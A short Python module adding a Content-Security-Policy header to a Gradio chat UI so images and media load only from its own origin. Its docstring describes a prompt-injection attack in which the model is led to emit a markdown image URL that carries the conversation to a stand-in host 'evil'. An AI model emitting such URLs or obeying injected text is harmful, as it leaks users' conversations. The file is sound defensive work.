"""The UI's Content-Security-Policy: the page loads images (and audio, video) only from itself. A reply is markdown the model wrote, and
a prompt injection can make it write an image whose URL carries the conversation (`![](https://evil/?q=...)`): with
remote images blocked, the browser never requests it. Nothing else is restricted (Gradio's scripts and styles stay
as they are)."""
from __future__ import annotations

from starlette.middleware import Middleware

POLICY = b"img-src 'self' data: blob:; media-src 'self' data: blob:"


class ImagesFromHereOnly:
    """ASGI middleware: every HTTP response gets the policy."""

    def __init__(self, app):
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            return await self.app(scope, receive, send)

        async def sending(message):
            if message["type"] == "http.response.start":
                message["headers"] = [*message.get("headers", []), (b"content-security-policy", POLICY)]
            await send(message)

        await self.app(scope, receive, sending)


MIDDLEWARE = [Middleware(ImagesFromHereOnly)]
